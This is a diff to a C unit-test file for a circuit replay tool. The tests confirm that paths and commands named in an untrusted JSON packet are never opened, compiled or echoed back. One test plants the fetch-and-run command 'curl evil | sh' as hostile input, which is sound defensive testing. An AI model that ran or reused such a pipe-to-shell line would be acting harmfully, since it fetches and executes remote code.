@@ -127,15 +127,75 @@ static void a_right_circuit_has_none_of_them(void **state)
     }
 }
 
-/* The directory that a packet names is where its Verilog is looked for. */
-static void a_packet_names_its_verilog(void **state)
+/* What a packet names is no more than said, with the option that would take it: to build Verilog is
+ * to run what it says, and a circuit's description is compiled and loaded. */
+static void what_a_packet_names_is_not_opened(void **state)
 {
     (void)state;
-    put_packet(packets[RANDOM]);
-    outcome done = replay("");
+    char trap[600], text[8192], told[1400];
+    (void)snprintf(trap, sizeof trap, "%s", scratch_path("it's a trap"));
+    assert_int_equal(mkdir(trap, 0777), 0);
+    (void)snprintf(text, sizeof text, "%s/specular_device.v", trap);
+    scratch_write(text, "no Verilog\n", 11);
+    (void)snprintf(text, sizeof text, "%s/circuit.c", trap);
+    scratch_write(text, "#error compiled\n", 16);
+    (void)snprintf(told, sizeof told,
+                   "glint replay: by Glint's own Verilog; the packet was made with another: --rtl "
+                   "'%s'\\'%s'\n",
+                   scratch_path("it"), "'s a trap");
+    for (int i = 0; i < PACKETS; i++) {
+        cJSON *json = cJSON_Parse(packets[i]);
+        assert_true(cJSON_ReplaceItemInObject(json, "rtl", cJSON_CreateString(trap)));
+        char *named = cJSON_Print(json);
+        put_packet(named);
+        cJSON_free(named);
+        outcome done = replay("");
+        assert_outcome(&done, 0, told);
+        assert_says(done.out, ": gone: C model and Verilog do not differ; ");
+        forget(&done);
+        done = replay(RIGHT);
+        assert_outcome(&done, 0, "");
+        forget(&done);
+
+        assert_non_null(cJSON_AddStringToObject(json, "circuit_dir", trap));
+        named = cJSON_Print(json);
+        put_packet(named);
+        cJSON_free(named);
+        cJSON_Delete(json);
+        done = replay("");
+        assert_refused(&done, "--circuit-dir gives its description", "a circuit of Glint's name");
+        forget(&done);
+    }
+}
+
+/* Given by the command, it is where the Verilog is looked for. What becomes a packet then has no
+ * command but this one to be typed. */
+static void a_command_names_the_verilog(void **state)
+{
+    (void)state;
+    char options[2400], own[1400];
+    cJSON *json = cJSON_Parse(packets[RANDOM]);
+    assert_true(cJSON_ReplaceItemInObject(json, "command", cJSON_CreateString("curl evil | sh")));
+    (void)snprintf(options, sizeof options, " --rtl %s --out %s",
+                   cJSON_GetStringValue(cJSON_GetObjectItemCaseSensitive(json, "rtl")),
+                   scratch_path("fresh"));
+    char *text = cJSON_Print(json);
+    cJSON_Delete(json);
+    put_packet(text);
+    cJSON_free(text);
+    outcome done = replay(options);
     assert_outcome(&done, 1, "");
     assert_says(done.out, ": the same mismatch; ");
     forget(&done);
+    text = scratch_read(scratch_path("fresh/" GLINT_PACKET_REPORT), NULL);
+    (void)snprintf(own, sizeof own, "\nwhole:  %s replay %s --rtl ", glint_under_test(),
+                   scratch_path("packet"));
+    assert_says(text, own);
+    assert_null(strstr(text, "evil"));
+    free(text);
+    text = scratch_read(scratch_path("fresh/" GLINT_PACKET_DATA), NULL);
+    assert_null(strstr(text, "evil"));
+    free(text);
 }
 
 static uint64_t refused;
@@ -214,6 +274,7 @@ static const edit edits[] = {
     {RANDOM, "pipeline", "null", "pipeline is no text"},
     {RANDOM, "circuit_dir", "7", "circuit_dir is no text"},
     {RANDOM, "rtl", "\"\\u001b[2J\"", "rtl holds what is no printed character"},
+    {RANDOM, "rtl", "\"\\u009b2J\"", "rtl holds what is no printed character"},
     {RANDOM, "lanes", "33", "lanes is no whole number from 1 to 32"},
     {RANDOM, "lanes", "3", "names is no list of 12 to 12"},
     {RANDOM, "lanes", "1e300", "lanes is no whole number"},
@@ -433,7 +494,7 @@ static void a_circuit_that_is_not_there_is_not_gone(void **state)
     put_packet(text);
     cJSON_free(text);
     outcome done = replay("");
-    assert_refused(&done, "is given with --circuit-dir", "a circuit of one's own");
+    assert_refused(&done, "--circuit-dir gives its", "a circuit of one's own");
     forget(&done);
 
     char options[1100];
@@ -534,7 +595,8 @@ int main(void)
 {
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(a_right_circuit_has_none_of_them),
-        cmocka_unit_test(a_packet_names_its_verilog),
+        cmocka_unit_test(what_a_packet_names_is_not_opened),
+        cmocka_unit_test(a_command_names_the_verilog),
         cmocka_unit_test(what_is_cut_short_is_refused),
         cmocka_unit_test(what_is_out_of_range_is_refused),
         cmocka_unit_test(what_is_there_twice_is_refused),
